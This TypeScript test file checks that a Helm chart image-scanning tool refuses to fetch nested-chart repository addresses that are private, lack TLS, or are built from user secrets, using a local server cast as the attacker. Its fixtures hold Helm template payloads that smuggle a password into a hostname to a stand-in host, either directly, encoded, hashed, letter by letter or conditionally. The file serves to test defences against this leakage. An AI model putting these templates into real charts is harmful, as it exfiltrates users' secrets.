import { once } from 'node:events';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ignoreEvents } from '../../../src/base/events.ts';
import { hostPortsOf } from '../../../src/helm/addresses.ts';
import type { RenderOptions } from '../../../src/helm/render.ts';
import { type ImagesResult, images } from '../../../src/workflows/images/images.ts';
import { chartYaml, writeFiles } from '../../support/charts.ts';
import { HELMS } from '../../support/helm.ts';
import { scratchFolder } from '../../support/scratch.ts';

/** Requests to addresses of nested charts. The server is the attacker's. */
describe.for(HELMS.slice(-1))('addresses that charts name, with Helm $version', (helm) => {
  const test = it.skipIf(helm.path === undefined);
  let server: Server;
  let port: number;
  const requests: string[] = [];

  beforeAll(async () => {
    server = createServer((request, response) => {
      requests.push(request.url ?? '');
      response.writeHead(404).end();
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => server.close());

  function application(name: string, repoURL: string): string {
    return JSON.stringify({
      apiVersion: 'argoproj.io/v1alpha1',
      kind: 'Application',
      metadata: { name },
      spec: { source: { repoURL, chart: 'inner', targetRevision: '1.0.0' } },
    });
  }

  /** Searches a chart with these manifests. @param named hosts that the user has named */
  async function search(
    templates: Record<string, string>,
    options: RenderOptions & { secrets?: string } = {},
    named: string[] = [],
  ): Promise<ImagesResult> {
    requests.splice(0);
    const cwd = scratchFolder();
    await mkdir(join(cwd, 'tmp'));
    await writeFiles(join(cwd, 'outer'), {
      'Chart.yaml': chartYaml('outer'),
      'values.yaml': 'name: charts\nmode: plain\n',
      'templates/pod.yaml': 'kind: Pod\nspec: {containers: [{image: "r.example/outer:1"}]}\n',
      ...templates,
    });
    const { secrets, ...others } = options;
    if (secrets !== undefined) await writeFile(join(cwd, 'secrets.yaml'), secrets);
    const values = secrets === undefined ? {} : { values: [join(cwd, 'secrets.yaml')] };
    const context = {
      // A proxy that does not exist represents the internet.
      env: {
        PATH: process.env.PATH,
        HELM_BIN: helm.path,
        TMPDIR: join(cwd, 'tmp'),
        HOME: cwd,
        HTTPS_PROXY: `http://127.0.0.1:${port}`,
      },
      cwd,
      emit: ignoreEvents,
    };
    return images(context, {
      charts: [
        { request: { chart: join(cwd, 'outer') }, profiles: [{ name: 'default', options: { ...others, ...values } }] },
      ],
      add: [],
      chartSources: { mirrors: [], plainHttp: [], allowedHosts: hostPortsOf(named) },
    });
  }

  const codes = ({ failures }: ImagesResult): string[] => failures.map(({ code }) => code);

  test('are not requested without TLS, nor if they are private', async () => {
    for (const url of [`http://127.0.0.1:${port}`, `https://127.0.0.1:${port}`, `oci://127.0.0.1:${port}/charts`]) {
      const result = await search({ 'templates/a.yaml': application('a', url) });
      expect(codes(result), url).toEqual(['forbidden']);
      expect(result.failures[0]?.hint).toContain(`--allow-chart-host 127.0.0.1:${port}`);
    }
    expect(requests).toEqual([]);
  });

  test('are requested if the user has named the host', async () => {
    const result = await search({ 'templates/a.yaml': application('a', `http://127.0.0.1:${port}/x`) }, {}, [
      `127.0.0.1:${port}`,
    ]);
    expect(codes(result)).toEqual(['chart-not-found']);
    expect(requests).toEqual(['/x/index.yaml']);
    expect(result.askedHosts).toBeUndefined();
  });

  test('are listed if they are public', async () => {
    const result = await search({ 'templates/a.yaml': application('a', 'https://charts.invalid/x') });
    expect(result.askedHosts).toEqual([{ host: 'charts.invalid:443', charts: ['inner'] }]);
  });

  test.each<[string, string]>([
    ['as it is', '{{ .Values.password }}'],
    ['in base64', '{{ .Values.password | b64enc | lower | trimSuffix "=" | trimSuffix "=" }}'],
    [
      'letter by letter',
      '{{ range $i, $x := (splitList "" .Values.password) }}{{ if eq $x "s" }}y{{ else }}n{{ end }}{{ end }}',
    ],
    ['as a hash', '{{ .Values.password | sha256sum | trunc 20 }}'],
  ])('are not requested if they contain a secret of the user, %s', async (_, built) => {
    const url = `https://x-${built}.charts.invalid/x`;
    const result = await search(
      { 'templates/a.yaml': application('a', 'ADDRESS').replace('ADDRESS', () => url) },
      {
        secrets: 'password: swordfish9\n',
      },
    );
    expect(codes(result)).toEqual(['forbidden']);
    expect(result.askedHosts).toBeUndefined();
    expect(requests).toEqual([]);
  });

  test('are not requested if the secret decides whether they exist, or selects one of them', async () => {
    const guarded = (url: string): string =>
      `{{ if hasPrefix "sw" .Values.password }}\n${application('a', url)}\n{{ end }}\n`;
    const one = await search(
      { 'templates/a.yaml': guarded('https://starts-with-sw.invalid') },
      {
        secrets: 'password: swordfish9\n',
      },
    );
    expect(codes(one)).toEqual(['forbidden']);
    const insisting = `{{ if and .Values.password (not (hasPrefix "AKIA" .Values.password)) }}{{ fail "no key" }}{{ end }}\n`;
    const url = 'https://x-{{ .Values.password | lower }}.invalid';
    const two = await search(
      { 'templates/a.yaml': insisting + application('a', url) },
      { secrets: 'password: AKIA77777\n' },
    );
    expect(codes(two)).toEqual(['forbidden']);
    expect(requests).toEqual([]);
  });

  test.each<[string, Record<string, string>]>([
    [
      'hides it from the other templates',
      {
        'templates/a/b/c/d.yaml': `{{ $_ := set .Values "was" .Values.password }}{{ $_ := set .Values "password" "x" }}`,
        'templates/a.yaml': application('a', 'https://x-{{ .Values.was }}.invalid'),
      },
    ],
    [
      'says that the address was given',
      {
        'templates/a/b/c/d.yaml': `{{ if .Values.password }}{{ $_ := set .Values "given" "https://charts.invalid" }}{{ end }}`,
        'templates/a.yaml': application('a', 'https://charts.invalid/{{ .Values.password }}'),
      },
    ],
    [
      'fails without it, and has the address among its defaults',
      {
        'values.yaml': 'address: https://charts.invalid\n',
        'templates/a.yaml': `{{ $_ := required "it" .Values.password }}\n${application('a', '{{ .Values.address }}/{{ .Values.password }}')}`,
      },
    ],
    [
      'tells it by those that are not requested',
      {
        'templates/a.yaml': `{{ range $c := list "r" "s" "t" "u" }}{{ if not (hasPrefix $c $.Values.password) }}\n---\n${application('a', 'https://{{ $c }}.charts.invalid')}\n{{ end }}{{ end }}`,
      },
    ],
    [
      'waits for an upgrade',
      {
        'templates/a.yaml': `{{ if .Release.IsUpgrade }}\nimage: x\n---\n${application('a', 'https://{{ .Values.password }}.invalid')}\n{{ end }}`,
      },
    ],
  ])('are not requested if the chart %s', async (_, templates) => {
    const result = await search(templates, { secrets: 'password: swordfish9\n' });
    expect(new Set(codes(result))).toEqual(new Set(['forbidden']));
    expect(result.askedHosts).toBeUndefined();
    expect(requests).toEqual([]);
  });

  test('are requested if the values only enable them, or name them', async () => {
    const switched = `{{ if .Values.enabled }}\n${application('a', 'https://charts.invalid/x')}\n{{ end }}\n`;
    const one = await search(
      { 'templates/a.yaml': switched },
      { secrets: 'enabled: true\nother: no\nkey: ""\npassword: swordfish9\n' },
    );
    expect(one.askedHosts).toEqual([{ host: 'charts.invalid:443', charts: ['inner'] }]);
    const chosen = `{{ if eq .Values.mode "full" }}\n${application('a', 'https://charts.invalid/x')}\n{{ end }}\n`;
    const two = await search({ 'templates/a.yaml': chosen }, { set: ['mode=full'] });
    expect(two.askedHosts).toEqual([{ host: 'charts.invalid:443', charts: ['inner'] }]);
    const named = application('a', '{{ .Values.repository }}');
    const three = await search({ 'templates/a.yaml': named }, { set: [`repository=http://127.0.0.1:${port}/own`] });
    expect(requests).toEqual(['/own/index.yaml']);
    expect(codes(three)).toEqual(['chart-not-found']);
  });
});
